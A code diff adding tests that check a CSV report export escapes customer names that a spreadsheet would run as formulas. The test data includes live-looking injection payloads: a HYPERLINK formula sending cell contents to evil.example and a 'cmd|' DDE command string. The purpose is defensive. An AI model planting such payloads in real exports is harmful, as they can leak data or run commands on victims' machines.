@@ -104,6 +104,55 @@ def test_reports_page_and_csv(as_admin, book):
     ]
 
 
+def test_reports_csv_neutralises_names_that_a_spreadsheet_would_run(as_admin, book, customer):
+    """A customer picks their own name; in the export it must be text, not a formula. Our own
+    numbers stay numbers, even negative ones."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    User.objects.filter(username="second").update(username=formula)
+    User.objects.filter(pk=customer.pk).update(username="@SUM(1+1)")
+    Order.objects.filter(user=customer, cost_actual="1.20000").update(cost_actual=Decimal("12.00000"))
+    query = {"start": "2026-03-01", "end": "2026-03-02", "by": "customer"}
+    rows = list(csv.reader(io.StringIO(as_admin.get(reverse("admin:bo_reports_csv"), query).content.decode())))
+    assert sorted(rows[1:]) == sorted(
+        [
+            ["'@SUM(1+1)", "3", "17.00000", "19.50000", "-2.50000"],
+            ["'" + formula, "2", "15.00000", "9.00000", "6.00000"],
+        ]
+    )
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("plain name", "plain name"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (Decimal("-5.00"), Decimal("-5.00")),
+        (-3, -3),
+        (None, None),
+        (date(2026, 3, 1), date(2026, 3, 1)),
+    ],
+)
+def test_spreadsheet_safe_touches_only_text_that_starts_a_formula(value, written):
+    from panel.security import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == written
+
+
+def test_the_safe_writer_writes_negative_amounts_as_numbers():
+    from panel.security import SpreadsheetSafeWriter
+
+    out = io.StringIO()
+    SpreadsheetSafeWriter(out).writerows([["-bad", Decimal("-5.00"), -2]])
+    assert out.getvalue() == "'-bad,-5.00,-2\r\n"
+
+
 def test_reports_refuse_a_backwards_period(as_admin):
     response = as_admin.get(reverse("admin:bo_reports_csv"), {"start": "2026-03-02", "end": "2026-03-01", "by": "day"})
     assert response.status_code == 400
